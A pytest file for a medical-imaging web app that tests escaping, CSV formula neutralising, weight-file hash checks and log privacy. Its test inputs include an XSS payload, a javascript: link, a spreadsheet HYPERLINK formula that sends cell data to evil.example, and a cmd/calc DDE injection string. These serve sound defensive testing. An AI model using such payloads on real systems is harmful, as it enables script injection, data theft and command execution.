"""A shared server's text and files: user-controlled strings shown literally, CSV cells that cannot run, the
OOD guard verified by hash, caches keyed by their folder, widget keys unique per page, errors without
server paths, and logs that carry timings but never a patient identifier."""

from __future__ import annotations

import ast
import io
import logging
import re
import shutil
from collections import defaultdict

import pandas as pd
import pydicom
import pytest
from streamlit.testing.v1 import AppTest

from covidviz.errors import WeightsError
from covidviz.model.ood import OOD_FILE, load_guard, save_guard
from covidviz.text import neutralise_formula, plain, safe_csv_bytes
from covidviz.verified import check_sha256, hash_record_path
from tests.conftest import FIXTURES, ROOT, WEIGHTS, dicom_path, fixture_rows

HOSTILE = "**x** <img src=x onerror=alert(1)> [a](javascript:alert(1)) $x$ #h.png"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open").png'
TEXT_ELEMENTS = ("markdown", "caption", "subheader", "error", "warning", "info", "success", "title")


def unescape(markdown: str) -> str:
    """What Markdown shows for text escaped by ``plain``: backslash escapes and entities resolved."""
    text = re.sub(r"\\(.)", r"\1", markdown)
    return text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def shown_texts(at: AppTest) -> list[str]:
    return [e.value for kind in TEXT_ELEMENTS for e in at.get(kind)]


def diagnose(uploads: list[tuple[str, bytes, str]]) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app_pages" / "diagnose.py"), default_timeout=120)
    at.run()
    at.file_uploader(key="uploads").set_value(uploads)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


# --- escaping ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [HOSTILE, "# heading", "12. item", "- item", "+ item", "=== ", "a | b", "~~s~~",
                                  "`code`", "a\\*b", ":red[alarm] :material/home:", "x\n# y\n<script>", "&lt;",
                                  "ordinary-name_v2 (copy).dcm"])
def test_plain_text_round_trips_and_leaves_no_markup(text):
    escaped = plain(text)
    assert unescape(escaped) == " ".join(text.splitlines())
    assert "<" not in escaped and "\n" not in escaped
    unescaped_specials = re.sub(r"\\.", "", escaped)  # no * _ [ ] $ ` ~ | left without its backslash
    assert not re.search(r"[*_\[\]$`~|]", unescaped_specials)
    if re.match(r"\s*([#+=-]|\d+[.)])", text):  # a heading or list marker: escaped where a block could start
        assert re.match(r"\s*(\\[#+=-]|\d+\\[.)])", escaped), escaped


def test_hostile_file_names_show_literally_on_the_page_and_cannot_run_in_the_csv(downloads):
    png = (FIXTURES / fixture_rows()[2]["fixture"]).read_bytes()
    at = diagnose([(HOSTILE, png, "image/png"), (FORMULA, png, "image/png"),
                   ("@SUM(1+1)*cmd|' /C calc'!A0.png", png[:300], "image/png")])
    headings = [h.value for h in at.subheader]
    assert plain(HOSTILE) in headings and plain(FORMULA) in headings
    assert {unescape(h) for h in headings} >= {HOSTILE, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0.png"}
    for text in shown_texts(at):
        assert "<img" not in text, text
        assert not re.search(r"(?<!\\)\]\(", text), text  # no link or image: every ] is escaped
    table = pd.read_csv(io.BytesIO(downloads(at.download_button(key="diagnose_csv").proto.url)))
    assert table["file"].tolist() == [HOSTILE, "'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0.png"]
    assert table["error"].isna()[:2].all() and table["error"][2].startswith("The ")  # the reason, as it reads


def test_one_formula_neutraliser_serves_the_diagnose_csv_and_the_audit_export():
    from covidviz.audit import query
    assert query.neutralise_formula is neutralise_formula
    cells = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "a\r=1+1"]
    frame = pd.DataFrame({"file": cells, "p": [0.5] * len(cells)})
    back = pd.read_csv(io.BytesIO(safe_csv_bytes(frame)), keep_default_na=False)
    assert back["file"].tolist() == ["'" + c for c in cells[:6]] + ["plain", "a\r=1+1"]
    assert back["p"].tolist() == [0.5] * len(cells)  # numbers stay numbers


# --- the OOD guard's hash ---------------------------------------------------------------------------------------


def test_the_shipped_guard_has_a_hash_record_and_loads():
    check_sha256(WEIGHTS / OOD_FILE)
    guard = load_guard(WEIGHTS)
    assert guard is not None and guard.caution < guard.threshold


def _guard_copy(tmp_path):
    copy = tmp_path / "w"
    copy.mkdir()
    for name in (OOD_FILE, hash_record_path(OOD_FILE).name):
        shutil.copy(WEIGHTS / name, copy / name)
    return copy


def test_an_altered_guard_is_refused(tmp_path):
    copy = _guard_copy(tmp_path)
    data = bytearray((copy / OOD_FILE).read_bytes())
    data[-8] ^= 0x01  # one bit of a threshold or the precision matrix: still a valid safetensors file
    (copy / OOD_FILE).write_bytes(bytes(data))
    with pytest.raises(WeightsError, match="corrupt or was replaced"):
        load_guard(copy)


def test_a_guard_without_its_record_is_refused_and_save_guard_writes_one(tmp_path):
    copy = _guard_copy(tmp_path)
    hash_record_path(copy / OOD_FILE).unlink()
    with pytest.raises(WeightsError, match="no hash record"):
        load_guard(copy)
    shipped = load_guard(WEIGHTS)
    save_guard(shipped, copy)
    again = load_guard(copy)
    assert again.threshold == shipped.threshold and (again.precision == shipped.precision).all()


# --- caches and widget keys -------------------------------------------------------------------------------------


def test_cached_guards_are_keyed_by_their_weights_folder(tmp_path):
    from covidviz.ui.resources import get_guard
    copy = _guard_copy(tmp_path)
    empty = tmp_path / "empty"
    empty.mkdir()
    shipped = get_guard(WEIGHTS)
    assert get_guard(WEIGHTS) is shipped
    assert get_guard(copy) is not shipped and get_guard(copy).threshold == shipped.threshold
    assert get_guard(empty) is None


def _literal_keys(path) -> set[str]:
    """Widget keys written as literals (an f-string counts by its literal start: "png{index}" is "png")."""
    keys = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Call):
            for keyword in node.keywords:
                value = keyword.value
                if keyword.arg != "key":
                    continue
                if isinstance(value, ast.Constant) and isinstance(value.value, str):
                    keys.add(value.value)
                elif isinstance(value, ast.JoinedStr) and value.values and isinstance(value.values[0], ast.Constant):
                    keys.add(value.values[0].value + "{")
    return keys


def test_no_widget_key_is_used_by_two_pages():
    owners = defaultdict(set)
    for path in [*(ROOT / "app_pages").glob("*.py"), *(ROOT / "covidviz" / "ui").glob("*.py"), ROOT / "app.py"]:
        for key in _literal_keys(path):
            owners[key].add(path.relative_to(ROOT).as_posix())
    shared = {k: sorted(v) for k, v in owners.items() if len(v) > 1}
    assert not shared, shared
    assert {"diagnose_view", "diagnose_threshold", "confusion_view", "threshold"} <= set(owners)


# --- errors and logs --------------------------------------------------------------------------------------------


def test_a_model_that_fails_verification_is_a_plain_message_with_the_details_in_the_log(tmp_path, monkeypatch,
                                                                                         caplog):
    folder = tmp_path / "server-secret-folder"
    folder.mkdir()
    for name in ("model.json", "model.safetensors"):
        shutil.copy(WEIGHTS / name, folder / name)
    data = bytearray((folder / "model.safetensors").read_bytes())
    data[-10] ^= 0xFF
    (folder / "model.safetensors").write_bytes(bytes(data))
    monkeypatch.setenv("COVIDVIZ_WEIGHTS", str(folder))
    caplog.set_level(logging.INFO)
    at = AppTest.from_file(str(ROOT / "app_pages" / "diagnose.py"), default_timeout=60)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("could not be loaded" in e.value for e in at.error)
    assert not any("server-secret-folder" in text for text in shown_texts(at))
    assert "server-secret-folder" in caplog.text and "corrupt or was replaced" in caplog.text


def test_reading_a_dicom_logs_sizes_and_timings_but_no_identifier(caplog):
    path = dicom_path("RG1_UNCI.dcm")
    data = open(path, "rb").read()
    ds = pydicom.dcmread(path)
    secrets = [str(ds.PatientName), ds.PatientID, ds.PatientBirthDate, ds.InstitutionName]
    assert all(secrets), secrets
    secrets += [str(ds.PatientName).replace("^", " "), "DOE_JOHN.dcm"]
    caplog.set_level(logging.DEBUG)
    at = diagnose([("DOE_JOHN.dcm", data, "application/dicom")])
    at.radio(key="diagnose_view").set_value("All three side by side").run()
    assert not at.exception, [e.value for e in at.exception]
    reads = [r for r in caplog.records if r.name == "covidviz.ui.requests" and r.getMessage().startswith("upload read")]
    assert len(reads) == 1
    fields = reads[0].covidviz
    assert fields["bytes"] == len(data) and fields["format"] == "DICOM" and "rejected" not in fields
    assert fields["decode_ms"] > 0 and fields["model_ms"] > 0 and fields["total_ms"] >= fields["model_ms"]
    assert any(r.name == "covidviz.ui.requests" and r.getMessage().startswith("heatmap") for r in caplog.records)
    everything = []
    for record in caplog.records:
        everything += [record.name, record.getMessage(), repr(record.args), repr(getattr(record, "covidviz", "")),
                       record.exc_text or ""]
    logged = "\n".join(everything)
    assert len(caplog.records) >= 2
    for secret in secrets:
        assert secret not in logged, secret
